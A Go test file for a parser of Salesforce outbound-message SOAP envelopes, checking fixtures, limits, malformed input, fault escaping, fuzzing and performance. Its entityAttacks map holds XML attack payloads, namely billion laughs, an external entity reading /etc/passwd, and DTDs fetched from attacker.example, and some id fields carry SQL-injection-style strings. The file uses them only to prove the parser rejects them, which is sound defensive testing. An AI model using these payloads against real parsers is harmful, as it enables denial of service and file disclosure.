package crm

import (
	"encoding/xml"
	"fmt"
	"os"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/stripesync/stripesync"
)

// envelope wraps notifications in the envelope Salesforce sends (§1.6).
func envelope(notifications ...string) []byte {
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>00DRO0000000001AAA</OrganizationId>
   <ActionId>04kRO0000000001AAA</ActionId>
   <SessionId xsi:nil="true"/>
   <EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/62.0/00DRO0000000001</EnterpriseUrl>
   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/62.0/00DRO0000000001</PartnerUrl>
` + strings.Join(notifications, "\n") + `
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>
`)
}

// accountNotification is the i-th notification of an Account action that
// sends Name and SystemModstamp.
func accountNotification(i int) string {
	return fmt.Sprintf(`   <Notification>
    <Id>04lRO%013d</Id>
    <sObject xsi:type="sf:Account" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>001RO%013d</sf:Id>
     <sf:Name>Account %d</sf:Name>
     <sf:SystemModstamp>2024-05-01T12:00:00.000Z</sf:SystemModstamp>
    </sObject>
   </Notification>`, i, i, i)
}

func TestParseOutboundMessageFixture(t *testing.T) {
	body, err := os.ReadFile("testdata/outbound_discountrule.xml")
	if err != nil {
		t.Fatal(err)
	}
	got, err := ParseOutboundMessage(body)
	if err != nil {
		t.Fatal(err)
	}
	want := OutboundMessage{
		OrganizationID: "00DD0000000muCUMAY",
		ActionID:       "04k57000000TOUIAA4",
		EnterpriseURL:  "https://eu4.salesforce.com/services/Soap/c/42.0/00DD0000000muCU",
		PartnerURL:     "https://eu4.salesforce.com/services/Soap/u/42.0/00DD0000000muCU",
		Notifications: []Notification{{
			ID:       "04l570000176YSmAAM",
			Object:   "DiscountRule__c",
			RecordID: "a025700000OPgOjAAL",
			// No SystemModstamp in this action: LastModifiedDate it is.
			ModStamp: time.Date(2018, 5, 4, 11, 35, 40, 0, time.UTC),
			Fields: map[string]Field{
				"Id":               {Value: "a025700000OPgOjAAL"},
				"ContractTerm__c":  {Value: "24"},
				"CreatedDate":      {Value: "2017-05-02T11:53:53.000Z"},
				"Discount__c":      {Value: "0.0"},
				"IsDeleted":        {Value: "false"},
				"LastModifiedDate": {Value: "2018-05-04T11:35:40.000Z"},
				"Name":             {Value: "244 Months"},
				"Price__c":         {Value: "419.0"},
				"Product__c":       {Value: "01t57000006qVLRAA2"},
				"Type__c":          {Value: "Wholesale"},
			},
		}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ParseOutboundMessage(§1.6 fixture) (-want +got):\n%s", diff)
	}
}

// TestParseOutboundMessageShapes covers what may legitimately vary:
// prefixes, nil versus missing fields, unknown elements, a session id.
func TestParseOutboundMessageShapes(t *testing.T) {
	body := []byte(`<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment is fine -->
<S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/" xmlns:i="http://www.w3.org/2001/XMLSchema-instance">
 <S:Header><Trace xmlns="urn:x">1</Trace></S:Header>
 <S:Body>
  <tns:notifications xmlns:tns="http://soap.sforce.com/2005/09/outbound">
   <tns:OrganizationId> 00DRO0000000001AAA </tns:OrganizationId>
   <tns:ActionId>04kRO0000000001AAA</tns:ActionId>
   <tns:SessionId>00DRO0000000001!AR.secret</tns:SessionId>
   <tns:Future>ignored</tns:Future>
   <Stray>ignored: no namespace</Stray>
   <tns:Notification>
    <tns:Id>04lRO0000000001AAA</tns:Id>
    <tns:sObject i:type="ens:Invoice__c" xmlns:ens="urn:sobject.enterprise.soap.sforce.com">
     <ens:Id>a0XRO0000000001AAA</ens:Id>
     <ens:Amount__c>1250.75</ens:Amount__c>
     <ens:Due_Date__c i:nil="true"/>
     <ens:LastModifiedDate>2024-05-01T11:00:00.000Z</ens:LastModifiedDate>
     <ens:SystemModstamp>2024-05-01T14:34:56.789+02:00</ens:SystemModstamp>
     <other:Name xmlns:other="urn:not-salesforce">ignored</other:Name>
    </tns:sObject>
    <tns:Extra/>
   </tns:Notification>
  </tns:notifications>
 </S:Body>
</S:Envelope>
<!-- trailing comment -->
`)
	got, err := ParseOutboundMessage(body)
	if err != nil {
		t.Fatal(err)
	}
	want := OutboundMessage{
		OrganizationID: "00DRO0000000001AAA",
		ActionID:       "04kRO0000000001AAA",
		SessionID:      "00DRO0000000001!AR.secret",
		Notifications: []Notification{{
			ID: "04lRO0000000001AAA", Object: "Invoice__c", RecordID: "a0XRO0000000001AAA",
			ModStamp: time.Date(2024, 5, 1, 12, 34, 56, 789e6, time.UTC), // SystemModstamp wins
			Fields: map[string]Field{
				"Id":               {Value: "a0XRO0000000001AAA"},
				"Amount__c":        {Value: "1250.75"},
				"Due_Date__c":      {Nil: true},
				"LastModifiedDate": {Value: "2024-05-01T11:00:00.000Z"},
				"SystemModstamp":   {Value: "2024-05-01T14:34:56.789+02:00"},
			},
		}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ParseOutboundMessage (-want +got):\n%s", diff)
	}
	n := got.Notifications[0]
	for _, tt := range []struct {
		field string
		want  string
		ok    bool
	}{
		{"Amount__c", "1250.75", true},
		{"amount__C", "1250.75", true},
		{"Due_Date__c", "", false}, // nil
		{"Name", "", false},        // missing
	} {
		if v, ok := n.Value(tt.field); v != tt.want || ok != tt.ok {
			t.Errorf("Value(%q) = %q, %v, want %q, %v", tt.field, v, ok, tt.want, tt.ok)
		}
	}
}

func TestParseOutboundMessageLimit(t *testing.T) {
	notes := make([]string, MaxOutboundNotifications+1)
	for i := range notes {
		notes[i] = accountNotification(i)
	}
	msg, err := ParseOutboundMessage(envelope(notes[:MaxOutboundNotifications]...))
	if err != nil {
		t.Fatalf("100 notifications: %v", err)
	}
	if len(msg.Notifications) != 100 || msg.Notifications[99].RecordID != "001RO0000000000099" {
		t.Errorf("100 notifications: got %d, last %+v", len(msg.Notifications), msg.Notifications[len(msg.Notifications)-1])
	}
	_, err = ParseOutboundMessage(envelope(notes...))
	wantCode(t, err, stripesync.EINVALID)
	if !strings.Contains(err.Error(), "more than 100") {
		t.Errorf("101 notifications: error %q does not say why", err)
	}
}

func TestParseOutboundMessageInvalid(t *testing.T) {
	ok := accountNotification(1)
	replace := func(old, new string) []byte {
		return envelope(strings.Replace(ok, old, new, 1))
	}
	tests := []struct {
		name string
		body []byte
		want string // in the error text
	}{
		{"empty", nil, "malformed XML"},
		{"not XML", []byte("garbage"), "malformed XML"},
		{"JSON", []byte(`{"notifications":[]}`), "malformed XML"},
		{"truncated", envelope(ok)[:400], "malformed XML"},
		{"SOAP 1.2 envelope", []byte(strings.Replace(string(envelope(ok)),
			"http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope", 1)), "malformed XML"},
		{"no Body", []byte(`<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>`), "no notifications element"},
		{"notifications in another namespace", []byte(strings.Replace(string(envelope(ok)),
			`<notifications xmlns="http://soap.sforce.com/2005/09/outbound">`, `<notifications xmlns="http://soap.sforce.com/2005/09/inbound">`, 1)), "no notifications element"},
		{"notifications without namespace", []byte(strings.Replace(string(envelope(ok)),
			`<notifications xmlns="http://soap.sforce.com/2005/09/outbound">`, `<notifications>`, 1)), "no notifications element"},
		{"no notification", envelope(), "no Notification"},
		{"notification without Id", replace("<Id>04lRO0000000000001</Id>", ""), "no Id"},
		{"notification Id not an id", replace("<Id>04lRO0000000000001</Id>", "<Id>04l'--</Id>"), "not a Salesforce id"},
		{"no sObject", envelope("<Notification><Id>04lRO0000000000001</Id><Object/></Notification>"), "no sObject"},
		{"no sf:Id", replace("<sf:Id>001RO0000000000001</sf:Id>", ""), "no sf:Id"},
		{"nil sf:Id", replace("<sf:Id>001RO0000000000001</sf:Id>", `<sf:Id xsi:nil="true"/>`), "no sf:Id"},
		{"sf:Id not an id", replace("<sf:Id>001RO0000000000001</sf:Id>", "<sf:Id>001' OR Id != '</sf:Id>"), "not a Salesforce id"},
		{"bad type", replace(`xsi:type="sf:Account"`, `xsi:type="sf:Acc ount"`), "not an API name"},
		{"bad dateTime", replace("2024-05-01T12:00:00.000Z", "yesterday"), "not an xsd:dateTime"},
		{"dateTime without zone", replace("2024-05-01T12:00:00.000Z", "2024-05-01T12:00:00"), "not an xsd:dateTime"},
		{"mismatched tags", replace("</sObject>", "</sobject>"), "malformed XML"},
		{"undefined entity", replace("Account 1", "&lol9;"), "malformed XML"},
		{"text after the envelope", append(envelope(ok), "trailing"...), "text after the envelope"},
		{"second root", append(envelope(ok), "<x/>"...), "content after the envelope"},
		{"DOCTYPE after the envelope", append(envelope(ok), "<!DOCTYPE x>"...), "DOCTYPE not allowed"},
		{"DOCTYPE inside", replace("<sf:Name>", "<!DOCTYPE x><sf:Name>"), "DOCTYPE not allowed"},
		{"encoding", []byte(strings.Replace(string(envelope(ok)), `encoding="UTF-8"`, `encoding="ISO-8859-1"`, 1)), "malformed XML"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			msg, err := ParseOutboundMessage(tt.body)
			wantCode(t, err, stripesync.EINVALID)
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q, want it to contain %q", err, tt.want)
			}
			if msg.Notifications != nil {
				t.Errorf("rejected message returned %d notifications", len(msg.Notifications))
			}
		})
	}
}

// entityAttacks are payloads that would exhaust memory or read files in a
// parser that processes DTDs.
var entityAttacks = map[string]string{
	"billion laughs": `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>&lol9;</soapenv:Body></soapenv:Envelope>`,
	"external entity": `<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>&xxe;</soapenv:Body></soapenv:Envelope>`,
	"external DTD": `<?xml version="1.0"?>
<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>`,
	"parameter entity": `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>`,
	"quadratic blowup": `<!DOCTYPE r [<!ENTITY a "` + strings.Repeat("x", 4096) + `">]><r>` + strings.Repeat("&a;", 1000) + `</r>`,
}

// TestParseOutboundMessageEntityAttacks proves the attacks are refused
// when the DOCTYPE is met: nothing is expanded, so a parse costs little
// memory (a few times the payload, not the gigabytes an expansion would).
// Not parallel: it reads process-wide allocation counters.
func TestParseOutboundMessageEntityAttacks(t *testing.T) {
	for name, payload := range entityAttacks {
		body := []byte(payload)
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		const runs = 20
		for range runs {
			_, err := ParseOutboundMessage(body)
			wantCode(t, err, stripesync.EINVALID)
			if !strings.Contains(err.Error(), "DOCTYPE not allowed") {
				t.Errorf("%s: error %q, want DOCTYPE not allowed", name, err)
			}
		}
		runtime.ReadMemStats(&after)
		perParse := (after.TotalAlloc - before.TotalAlloc) / runs
		t.Logf("%s: %d-byte payload, %d bytes allocated per parse", name, len(body), perParse)
		if limit := uint64(64<<10 + 4*len(body)); perParse > limit {
			t.Errorf("%s: %d bytes allocated per parse, want at most %d", name, perParse, limit)
		}
	}
}

func TestAckResponse(t *testing.T) {
	want, err := os.ReadFile("testdata/outbound_ack.xml") // §1.3, verbatim
	if err != nil {
		t.Fatal(err)
	}
	got := AckResponse()
	if strings.TrimSpace(string(got)) != strings.TrimSpace(string(want)) {
		t.Errorf("AckResponse() =\n%s\nwant\n%s", got, want)
	}
	got[0] = 'x'
	if AckResponse()[0] != '<' {
		t.Error("AckResponse shares its bytes between calls")
	}
}

func TestSOAPFault(t *testing.T) {
	tests := []struct{ code, wantCode string }{
		{"Client", "soapenv:Client"},
		{"soapenv:Client", "soapenv:Client"},
		{"Server", "soapenv:Server"},
		{"</faultcode><x>", "soapenv:Server"},
	}
	for _, tt := range tests {
		msg := `bad <Notification> & "quotes" ]]> ` + "\x00"
		body := SOAPFault(tt.code, msg)
		var env struct {
			XMLName xml.Name `xml:"http://schemas.xmlsoap.org/soap/envelope/ Envelope"`
			Fault   struct {
				Code   string `xml:"faultcode"`
				String string `xml:"faultstring"`
			} `xml:"http://schemas.xmlsoap.org/soap/envelope/ Body>Fault"`
		}
		if err := xml.Unmarshal(body, &env); err != nil {
			t.Fatalf("SOAPFault(%q) is not XML: %v\n%s", tt.code, err, body)
		}
		if env.Fault.Code != tt.wantCode || env.Fault.String != "bad <Notification> & \"quotes\" ]]> \uFFFD" {
			t.Errorf("SOAPFault(%q) = code %q, string %q", tt.code, env.Fault.Code, env.Fault.String)
		}
	}
}

func FuzzParseOutboundMessage(f *testing.F) {
	fixture, err := os.ReadFile("testdata/outbound_discountrule.xml")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(fixture)
	f.Add(envelope(accountNotification(1), accountNotification(2)))
	f.Add([]byte(entityAttacks["billion laughs"]))
	f.Add([]byte(entityAttacks["external entity"]))
	f.Add([]byte("garbage"))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, body []byte) {
		msg, err := ParseOutboundMessage(body)
		if err != nil {
			if stripesync.CodeOf(err) != stripesync.EINVALID {
				t.Fatalf("error %v has code %q, want EINVALID", err, stripesync.CodeOf(err))
			}
			return
		}
		if n := len(msg.Notifications); n == 0 || n > MaxOutboundNotifications {
			t.Fatalf("parsed %d notifications", n)
		}
		for _, n := range msg.Notifications {
			if n.ID == "" || n.Object == "" || n.RecordID == "" {
				t.Fatalf("notification without ID, Object or RecordID: %+v", n)
			}
		}
	})
}

// BenchmarkParseOutboundMessage decodes a full message of 100 Account
// notifications, the most one delivery can carry.
func BenchmarkParseOutboundMessage(b *testing.B) {
	notes := make([]string, MaxOutboundNotifications)
	for i := range notes {
		notes[i] = accountNotification(i)
	}
	body := envelope(notes...)
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := ParseOutboundMessage(body); err != nil {
			b.Fatal(err)
		}
	}
}
